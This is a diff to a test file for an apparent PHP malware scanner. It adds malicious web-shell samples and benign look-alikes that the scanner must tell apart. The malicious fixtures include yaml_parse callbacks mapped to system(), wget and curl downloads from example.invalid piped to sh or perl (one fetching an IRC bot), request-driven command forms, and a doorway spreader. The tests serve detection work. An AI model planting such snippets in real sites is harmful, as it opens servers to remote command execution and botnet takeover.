@@ -30,6 +30,17 @@ const MALICIOUS: [string, string, string][] = [
   ['a doorway spreader writing index.php into each folder with what its server sends for this host (S36A-71)', '/var/www/html/s.php', `<?php\n$srv = "http://doorway.example.invalid/tpl/";\n$c = file_get_contents($srv . '?host=' . urlencode($_SERVER['HTTP_HOST']));\nforeach (glob($_SERVER['DOCUMENT_ROOT'] . '/*', GLOB_ONLYDIR) as $d) file_put_contents($d . '/index.php', $c);\n`],
   ['code decoding the base64 kept after its own closing tag, reversed and rot13-ed, then evaluated (held-out set H15)', '/var/www/html/t.php', `<?php\n$p = array(base64_decode("L3gvaQ=="), base64_decode(strrev(str_rot13(explode("?>", file_get_contents(__FILE__))[1]))));\npreg_replace($p[0], serialize(eval($p[1])), 'x');\nexit();\n?>\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 97 + 13) % 256)).toString('base64')}\n`],
   ['a mass mailer sending through imap_mail to each address of a list the request gives (S36A-43)', '/var/www/html/u.php', `<?php\n$message = stripslashes($_POST['html']);\n$list = explode("\\n", $_POST['emails']);\nforeach ($list as $i => $rcpt) {\n  if (imap_mail($rcpt, $_POST['subject'], $message . date('r'), "From: " . $_POST['from'])) echo 'sent ', $i;\n}\n`],
+  ['yaml_parse with its callbacks given by name (S36B)', '/var/www/html/v1.php', `<?php\n$cb = ["!run" => "system"];\nyaml_parse($_POST["doc"], callbacks: $cb);\n`],
+  ['yaml_parse with its callbacks in a property (S36B)', '/var/www/html/v2.php', `<?php\nclass P { public $cb = ["!run" => "system"]; function go($d) { return yaml_parse($d, 0, $n, $this->cb); } }\n(new P)->go($_POST["doc"]);\n`],
+  ['yaml_parse_file of the request body with tag callbacks (S36B)', '/var/www/html/v3.php', `<?php\n$cb = ["!run" => "system"];\nyaml_parse_file("php://input", 0, $n, $cb);\n`],
+  ['a download piped to sh, its output sent away, in the background (S36B)', '/var/www/html/v4.php', `<?php\nsystem("wget -qO- http://example.invalid/s.txt | sh > /dev/null 2>&1 &");\n`],
+  ['a download piped to perl reading its program from stdin, with arguments (S36B)', '/var/www/html/v5.php', `<?php\nsystem("wget -qO- http://example.invalid/bot.txt | perl - irc.example.invalid 6667");\n`],
+  ['a download to /tmp run by perl with arguments (S36B)', '/var/www/html/v6.php', `<?php\nexec("wget -q http://example.invalid/bot.txt -O /tmp/.bot; perl /tmp/.bot irc.example.invalid 6667");\n`],
+  ['cd /tmp, then a download piped to perl (S36B)', '/var/www/html/v7.php', `<?php\nsystem("cd /tmp; wget -qO- http://example.invalid/s.txt | perl");\n`],
+  ['a download piped to sh in echoed backticks (S36B)', '/var/www/html/v8.php', "<?php\necho `curl -s http://example.invalid/i.sh | sh`;\n"],
+  ['a doorway writing into each folder named in a double-quoted literal (S36B)', '/var/www/html/v9.php', `<?php\n$srv = "http://doorway.example.invalid/tpl/";\n$c = file_get_contents($srv . "?host=" . urlencode($_SERVER["HTTP_HOST"]));\nforeach (glob($_SERVER["DOCUMENT_ROOT"] . "/*", GLOB_ONLYDIR) as $d) file_put_contents("$d/index.php", $c);\n`],
+  ['a register_globals command form keeping a history keyed by the command (S36B)', '/var/www/html/v10.php', `<form method="post"><input name="cmd"></form>\n<?php\nsession_start();\nif (isset($cmd)) { $_SESSION["hist"][$cmd] = time(); passthru($cmd); }\n`],
+  ['a register_globals command form whose echoed text says "as" (S36B)', '/var/www/html/v11.php', `<form method="post"><input name="cmd"></form>\n<?php\nif (isset($cmd)) { echo "<h3>Output as text: $cmd</h3>"; system($cmd); }\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -53,6 +64,11 @@ const LOOKALIKES: [string, string, string][] = [
   ['a monitor running each check of its own list, destructured in foreach (S36A-23)', '/var/www/html/monitor.php', `<?php\n$checks = ['load' => ['uptime', 'Load']];\n?>\n<form method="post"><input name="cmd"></form>\n<?php\nforeach ($checks as $key => [$command, $title]) { if (isset($command)) system($command); }\n`],
   ['a self-extracting installer reading the archive after __halt_compiler and writing its files', '/var/www/html/installer.php', `<?php\n$data = file_get_contents(__FILE__, false, null, __COMPILER_HALT_OFFSET__);\nfile_put_contents('/tmp/site.zip', base64_decode($data));\necho 'unpacked';\n__halt_compiler();\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 89 + 7) % 256)).toString('base64')}`],
   ['a page showing its own source, with a base64 picture in the HTML after its closing tag', '/var/www/html/demo.php', `<?php\nif (isset($_GET['source'])) { highlight_file(__FILE__); exit; }\n$n = base64_decode('MTIz');\n?>\n<img src="data:image/png;base64,\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 31 + 5) % 256)).toString('base64')}">\n`],
+  ['a registration page mailing the one new user a welcome in a message of its own, after a validation loop (S36B-8)', '/var/www/html/register.php', `<?php\nforeach (['username', 'email'] as $field) { if (empty($_POST[$field])) $errors[] = $field; }\n$email = trim($_POST['email']);\n$parts = explode('@', $email);\n$user = trim($_POST['username']);\n$message = "Hello " . $user . ",\\nWelcome to Example Shop!";\nmail($email, 'Welcome to Example Shop', $message, "From: noreply@shop.example.com");\n`],
+  ['an invitation page mailing up to ten friends the visitor lists, with a subject of its own (S36B-6)', '/var/www/html/invite.php', `<?php\n$name = trim(strip_tags($_POST['your_name']));\n$addresses = array_slice(explode("\\n", $_POST['emails']), 0, 10);\nforeach ($addresses as $address) {\n  if (!filter_var($address, FILTER_VALIDATE_EMAIL)) continue;\n  $body = "Hi,\\n" . $name . " invites you to join Example Gardeners.";\n  mail($address, 'An invitation to Example Gardeners', $body, 'From: noreply@gardeners.example.org');\n}\n`],
+  ['a backup plugin putting a "Silence is golden" index.php into its folders (S36B-9)', '/var/www/html/backup.php', `<?php\n$api = 'https://api.backup.example.com/';\n$site = $_SERVER['HTTP_HOST'];\n$res = file_get_contents($api . 'status?site=' . urlencode($site));\nforeach (['archives', 'logs'] as $d) { $path = WP_CONTENT_DIR . '/backups/' . $d; if (!is_dir($path)) mkdir($path, 0755); file_put_contents($path . '/index.php', "<?php\\n// Silence is golden.\\n"); }\nfwrite(STDERR, $res);\n`],
+  ['a panel building a Perl module downloaded over https in /tmp (S36B)', '/var/www/html/cpan.php', `<?php\n$out = shell_exec("cd /tmp && wget -q https://cpan.metacpan.org/authors/id/X/XX/Some-Module-1.0.tar.gz && tar xzf Some-Module-1.0.tar.gz && cd Some-Module-1.0 && perl Makefile.PL && make 2>&1");\n`],
+  ['a status page whose closure takes a $cmd parameter, beside a select named cmd (S36B-12)', '/var/www/html/status2.php', `<?php\n$checks = ['uptime' => 'uptime', 'disk' => 'df -h'];\n$run = function (string $cmd): string { return (string) shell_exec("$cmd 2>&1"); };\n$key = isset($_GET['cmd'], $checks[$_GET['cmd']]) ? $_GET['cmd'] : 'uptime';\n?>\n<form><select name="cmd"><option>uptime</option></select></form>\n<pre><?= htmlspecialchars($run($checks[$key])) ?></pre>\n`],
 ];
 
 describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () => {
@@ -62,7 +78,7 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 21));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 32));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -70,5 +86,5 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 20));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 25));
 });
